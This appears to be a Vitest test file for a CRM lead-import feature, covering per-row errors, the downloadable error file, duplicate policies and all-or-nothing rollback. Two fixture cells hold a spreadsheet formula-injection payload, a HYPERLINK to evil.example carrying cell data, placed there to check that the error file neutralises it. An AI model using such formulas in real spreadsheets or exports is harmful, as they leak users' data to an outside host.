/**
 * Running imports: bad rows reported by file row number while good rows commit, the error file,
 * duplicate policies, and atomicity — an abort or a failure part-way leaves nothing behind.
 */
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rows as query } from '../../platform/db/query.ts';
import { createTestApp, usingPostgres, type TestEnv } from '../../test/harness.ts';
import { setupOrg, type Org } from '../customers/testOrg.ts';
import { createLeads } from '../leads/create.ts';
import { liveImport } from './live.ts';
import { prepare, readXlsx, runInline, xlsx } from './testFiles.ts';

let env: TestEnv;
let org: Org;
const api = '/api/v1';
const MAP = { 姓名: 'name', 公司: 'company', 手机: 'mobile', 下次跟进: 'nextFollowupAt', 负责人: 'ownerId', 级别: 'grade', 备注: 'remark' };
const HEADER = Object.keys(MAP);

beforeAll(async () => {
  env = await createTestApp();
  org = await setupOrg(env);
});
afterAll(async () => {
  await env?.close();
});

type Lead = { name: string; mobile: string | null; owner_id: string | null; next_followup_at: Date | null; grade: string | null; remark: string | null; source: string | null; source_detail: Record<string, unknown> };
const leadsNamed = (names: string[]) => env.db.asSystem((d) => query<Lead>(d, sql`SELECT name, mobile, owner_id, next_followup_at, grade, remark, source, source_detail
  FROM leads WHERE tenant_id = ${org.admin.tenantId} AND name IN (${sql.join(names.map((n) => sql`${n}`), sql`, `)}) ORDER BY name`));

describe('an import with bad rows', () => {
  it('commits the good rows and reports each bad one by its row number in the file', async () => {
    const file = await xlsx(HEADER, [
      ['甲一', '杭州云帆科技', 13800138001, '2026-03-01 09:30', 'rep1', '重点客户', null], // phone stored as a number, date as text
      [null, '无名公司', 13800138002, null, null, null, null], // no name
      ['甲三', null, '1.38E+10', null, null, null, null], // Excel already rounded the phone
      ['甲四', null, '12345', null, null, null, null], // not a mobile number (the creator says so)
      ['甲五', '宁波海风', '13800138005', 46082.5, 'manager', 'B', '=HYPERLINK("http://evil.example/?d="&A1,"点我")'], // Excel date-time
      ['甲六', null, '13800138006', null, '查无此人', null, null],
      ['甲七', null, '13800138007', '下周三', null, 'Z', null],
    ], { title: '2026年展会线索' });
    const { id } = await prepare(org.manager.client, 'lead', file, MAP);
    const done = await runInline(env, org.manager.client, org.admin.tenantId, id);
    expect(done).toMatchObject({ status: 'completed', progress: { done: 7, total: 7 }, counts: { created: 2, updated: 0, skipped: 0, rejected: 5 } });

    const created = await leadsNamed(['甲一', '甲五']);
    expect(created.map((l) => [l.name, l.mobile, l.grade])).toEqual([['甲一', '13800138001', 'A'], ['甲五', '13800138005', 'B']]);
    expect(created[0]!.owner_id).toBe(org.rep1.userId);
    expect(created[1]!.owner_id).toBe(org.manager.userId);
    expect(new Date(created[0]!.next_followup_at!).toISOString()).toBe('2026-03-01T01:30:00.000Z'); // 09:30 in Shanghai
    expect(new Date(created[1]!.next_followup_at!).toISOString()).toBe('2026-03-01T04:00:00.000Z'); // serial .5 = 12:00
    expect(created[0]!.source_detail).toEqual({ importId: id, fileName: 'file.xlsx' });
    expect(created[0]!.source).toBe('import');
    expect(await leadsNamed(['甲三', '甲四', '甲六', '甲七'])).toEqual([]);

    const errors = (await org.manager.client.get(`${api}/imports/${id}/errors`)).json();
    const byRow = new Map<number, { column: string | null; message: string }[]>();
    for (const e of errors.items) byRow.set(e.rowNumber, [...(byRow.get(e.rowNumber) ?? []), e]);
    expect([...byRow.keys()]).toEqual([4, 5, 6, 8, 9]); // title row 1, header row 2, data from row 3
    expect(byRow.get(4)!.map((e) => e.column)).toEqual(['姓名']);
    expect(byRow.get(5)![0]).toMatchObject({ column: '手机', message: expect.stringContaining('scientific notation') });
    expect(byRow.get(6)![0]!.column).toBe('手机');
    expect(byRow.get(8)![0]).toMatchObject({ column: '负责人', message: expect.stringContaining('查无此人') });
    expect(byRow.get(9)!.map((e) => e.column)).toEqual(['下次跟进', '级别']);

    // the error file: original columns, the reasons last, bad cells marked, nothing live for Excel
    const res = await org.manager.client.get(`${api}/imports/${id}/errors.xlsx`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toContain('.xlsx');
    const { rows, fills } = await readXlsx(res.rawPayload);
    expect(rows[0]).toEqual([...HEADER, '错误原因']);
    expect(rows.slice(1).map((r) => r[0] ?? null)).toEqual([null, '甲三', '甲四', '甲六', '甲七']);
    expect(String(rows[2]![7])).toMatch(/^第 5 行: 手机：/);
    expect(rows[2]![2]).toBe('1.38E+10');
    expect(fills[5]).toEqual(['下次跟进', '级别']);

    const audit = await env.db.asSystem((d) => query<{ changes: Record<string, unknown> }>(d, sql`SELECT changes FROM audit_logs
      WHERE tenant_id = ${org.admin.tenantId} AND action = 'import' AND changes->>'importId' = ${id}`));
    expect(audit).toHaveLength(1);
    expect(audit[0]!.changes).toMatchObject({ created: 2, rejected: 5, rows: 7, fileName: 'file.xlsx' });
    expect((await org.manager.client.get(`${api}/imports?recordType=lead`)).json().items[0]).toMatchObject({ id, status: 'completed', createdByName: 'manager' });
  });

  it('neutralises a formula cell in the error file', async () => {
    const file = await xlsx(['姓名', '手机', '备注'], [['乙一', 'bad', '=HYPERLINK("http://evil.example","x")']]);
    const { id } = await prepare(org.manager.client, 'lead', file, { 姓名: 'name', 手机: 'mobile', 备注: 'remark' });
    await runInline(env, org.manager.client, org.admin.tenantId, id);
    const { rows } = await readXlsx((await org.manager.client.get(`${api}/imports/${id}/errors.xlsx`)).rawPayload);
    expect(rows[1]![2]).toBe(`'=HYPERLINK("http://evil.example","x")`);
  });
});

describe('duplicate policies', () => {
  const file = () => xlsx(['姓名', '手机', '备注'], [['丙一', '13900139001', '第二次'], ['丙二', '13900139002', '新的']]);
  const MAPPING = { 姓名: 'name', 手机: 'mobile', 备注: 'remark' };

  it('skips, updates or creates a row matching an existing lead by mobile', async () => {
    const first = await prepare(org.admin.client, 'lead', await xlsx(['姓名', '手机', '备注'], [['丙一', '+86 139-0013-9001', '第一次']]), MAPPING);
    const firstRun = await runInline(env, org.admin.client, org.admin.tenantId, first.id);
    expect(firstRun.counts.created, JSON.stringify(firstRun)).toBe(1);

    const skip = await prepare(org.admin.client, 'lead', await file(), MAPPING, 'skip');
    expect(skip.preview.summary).toEqual({ created: 1, updated: 0, skipped: 1, rejected: 0 });
    expect((await runInline(env, org.admin.client, org.admin.tenantId, skip.id)).counts).toEqual({ created: 1, updated: 0, skipped: 1, rejected: 0 });
    expect((await leadsNamed(['丙一'])).map((l) => l.remark)).toEqual(['第一次']);

    const update = await prepare(org.admin.client, 'lead', await file(), MAPPING, 'update');
    expect((await runInline(env, org.admin.client, org.admin.tenantId, update.id)).counts).toMatchObject({ updated: 2, created: 0 });
    expect((await leadsNamed(['丙一'])).map((l) => l.remark)).toEqual(['第二次']);

    const create = await prepare(org.admin.client, 'lead', await file(), MAPPING, 'create');
    expect((await runInline(env, org.admin.client, org.admin.tenantId, create.id)).counts).toMatchObject({ created: 2 });
    expect((await leadsNamed(['丙一'])).length).toBe(2);
  });
});

describe('all or nothing', () => {
  const many = (prefix: string, n: number) => xlsx(['姓名', '手机'], Array.from({ length: n }, (_, i) => [`${prefix}${i}`, `1370013${String(7000 + i).padStart(4, '0')}`]));
  const countLike = async (prefix: string) => Number((await env.db.asSystem((d) => query<{ n: number }>(d, sql`SELECT count(*)::int AS n FROM leads
    WHERE tenant_id = ${org.admin.tenantId} AND name LIKE ${`${prefix}%`}`)))[0]!.n);

  it('an abort part-way through rolls back every chunk already written; progress was readable meanwhile', async () => {
    const { id, token } = await prepare(org.admin.client, 'lead', await many('丁', 10), { 姓名: 'name', 手机: 'mobile' });
    const seen: unknown[] = [];
    const done = await runInline(env, org.admin.client, org.admin.tenantId, id, {
      chunkRows: 3,
      afterChunk: async (n) => {
        if (usingPostgres) expect(await countLike('丁')).toBe(0); // other connections see nothing uncommitted (PGlite has no other)
        const progress = await env.app.inject({ method: 'GET', url: `${api}/imports/${id}/progress`, headers: { 'x-import-token': token } });
        seen.push(progress.json().progress);
        if (n === 6) {
          const abort = await env.app.inject({ method: 'POST', url: `${api}/imports/${id}/abort`, headers: { 'x-import-token': token } });
          expect(abort.statusCode, abort.body).toBe(200);
        }
      },
    });
    expect(seen).toEqual([{ done: 3, total: 10 }, { done: 6, total: 10 }]);
    expect(done).toMatchObject({ status: 'cancelled', counts: { created: 0, rejected: 0 } });
    expect(await countLike('丁')).toBe(0);
    expect(liveImport(id)).toBeUndefined();
    const wrong = await env.app.inject({ method: 'GET', url: `${api}/imports/${id}/progress`, headers: { 'x-import-token': 'not-the-token' } });
    expect(wrong.statusCode).toBe(404);
  });

  it.skipIf(!usingPostgres)('a cancel through the API from another connection stops it, and progress is in the row meanwhile', async () => {
    const { id } = await prepare(org.admin.client, 'lead', await many('戊', 9), { 姓名: 'name', 手机: 'mobile' });
    const done = await runInline(env, org.admin.client, org.admin.tenantId, id, {
      chunkRows: 3,
      afterChunk: async (n) => {
        if (n !== 3) return;
        const [row] = await env.db.asSystem((d) => query<{ progress_done: number }>(d, sql`SELECT progress_done FROM imports WHERE id = ${id}`));
        expect(row!.progress_done).toBe(0); // written right after this hook
        const cancel = await org.admin.client.post(`${api}/imports/${id}/cancel`);
        expect(cancel.statusCode, cancel.body).toBe(200);
      },
    });
    expect(done.status).toBe('cancelled');
    expect(await countLike('戊')).toBe(0);
  });

  it('a failure part-way through writes nothing, and the import can be run again', async () => {
    const { id } = await prepare(org.admin.client, 'lead', await many('己', 7), { 姓名: 'name', 手机: 'mobile' });
    let calls = 0;
    const failed = await runInline(env, org.admin.client, org.admin.tenantId, id, {
      chunkRows: 3,
      creator: async (tx, ctx, rows) => {
        if (++calls === 2) throw new Error('disk full');
        return createLeads(tx, ctx, rows);
      },
    });
    expect(failed).toMatchObject({ status: 'failed', failure: expect.stringContaining('nothing was written') });
    expect(await countLike('己')).toBe(0);
    expect((await org.admin.client.get(`${api}/imports/${id}/errors`)).json().total).toBe(0);
    expect((await org.admin.client.post(`${api}/imports/${id}/run`)).statusCode).toBe(202);
    expect((await runInline(env, org.admin.client, org.admin.tenantId, id, { chunkRows: 3 })).counts.created).toBe(7);
    expect(await countLike('己')).toBe(7);
    expect((await org.admin.client.post(`${api}/imports/${id}/cancel`)).statusCode).toBe(409);
    expect((await org.admin.client.post(`${api}/imports/${id}/run`)).statusCode).toBe(409);
  });
});
